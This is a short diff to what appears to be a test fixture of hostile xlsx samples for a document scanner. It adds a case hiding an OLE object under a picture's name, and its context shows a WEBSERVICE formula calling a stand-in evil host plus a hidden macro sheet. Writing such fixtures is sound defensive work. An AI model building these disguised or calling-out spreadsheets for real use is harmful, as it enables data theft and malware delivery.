@@ -135,6 +135,9 @@ HOSTILE_CORNERS: dict[str, tuple[str, Maker]] = {
         "xl/pivotCache/pivotCacheDefinition1.xml":
             f"<a><cacheField formula='WEBSERVICE(\"{_EVIL}\")'/></a>"
     })),
+    "xlsx: object under the name of a picture": (".xlsx", _book({
+        "xl/media/image1.png": make.OLE
+    })),
     "xlsx: macro sheet among sheets": (".xlsx", _book({
         "xl/worksheets/sheet9.xml": "<xm:macrosheet xmlns:xm='urn:xm'/>"
     })),
